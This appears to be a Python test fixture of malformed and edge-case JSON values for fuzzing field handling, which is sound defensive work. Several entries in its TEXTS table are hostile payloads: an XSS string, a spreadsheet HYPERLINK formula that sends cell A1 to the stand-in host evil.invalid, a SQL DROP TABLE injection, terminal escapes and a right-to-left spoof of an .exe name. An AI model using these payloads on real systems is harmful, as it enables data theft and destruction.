"""What may stand in a field instead of its value, as raw JSON; ``MISSING`` is no field at all."""

import json

MISSING = ""

NESTED = "[" * 1000 + "]" * 1000

TYPES = {
    "missing": MISSING,
    "null": "null",
    "true": "true",
    "false": "false",
    "zero": "0",
    "a number": "17",
    "a fraction": "17.25",
    "an empty text": '""',
    "a text": '"seventeen"',
    "a number as a text": '"17.25"',
    "an empty list": "[]",
    "a list": '[1, "two", null]',
    "an empty object": "{}",
    "an object": '{"id": 7, "code": [], "name": {"first": "Ann"}}',
    "nested 1,000 deep": NESTED,
}

NUMBERS = {
    "10^15": "1000000000000000",
    "-10^15": "-1000000000000000",
    "1e9999999": "1e9999999",
    "5,000 digits": "9" * 5000,
    "minus one": "-1",
    "0.001": "0.001",
    "1e-30": "1e-30",
    "NaN in a text": '"NaN"',
}

TEXTS = {
    "5,000 characters": json.dumps("pipe " * 1000),
    "100,000 characters": json.dumps("x" * 100_000),
    "blanks": '"   "',
    "control characters": json.dumps("a\0b\x07\x08\x0b\x0c\x1f\x7f\x85\x9bz"),
    "many lines": json.dumps("line\r\n" * 600),
    "half a character": r'"half \ud800 and \udfff half"',
    "emoji": json.dumps("\U0001f477\U0001f3fd\u200d\u2640\ufe0f \U0001f6a7"),
    "right to left": json.dumps("\u05d7\u05e9\u05de\u05dc \u05d1\u05e2\u05f4\u05de \u0645\u0648\u0627\u062f"),
    "turned around": json.dumps("Acme \u202egnp.exe\u202c \u2066x\u2069 \u200f one\u2028two\u2029"),
    "HTML": json.dumps('<img src=x onerror="alert(1)"><script>alert(2)</script>&lt;'),
    "a formula": json.dumps('=HYPERLINK("http://evil.invalid?"&A1,"Error")'),
    "ANSI escapes": json.dumps("\x1b[31mred\x1b[2J\x1b]0;title\x07"),
    "rich markup": json.dumps("[bold]x[/bold] [link=http://evil.invalid]y[/] :pile_of_poo: [/"),
    "SQL and quotes": json.dumps("Robert'); DROP TABLE link;-- \\ \" ` ${x} {0} %s"),
    "two sentences": json.dumps("Stop. Look! Is it paid? Ask Ann. " * 3),
}

DATES = {
    "year 1": '"0001-01-01 00:00:00.000Z"',
    "year 1 far east": '"0001-01-01T00:00:00+14:00"',
    "year 9999": '"9999-12-31 23:59:59.999Z"',
    "year 9999 far west": '"9999-12-31T23:59:59-14:00"',
    "31 February": '"2026-02-31 00:00:00.000Z"',
    "a date": '"2026-11-07"',
    "with a zone": '"2026-11-07T23:30:00-08:00"',
    "without a zone": '"2026-11-07T23:30:00"',
    "seconds since 1970": "1794000000",
    "an American date": '"11/07/2026"',
}

BAD = {**TYPES, **NUMBERS, **TEXTS}
"""What can be wrong in any field; dates are for fields that hold one."""
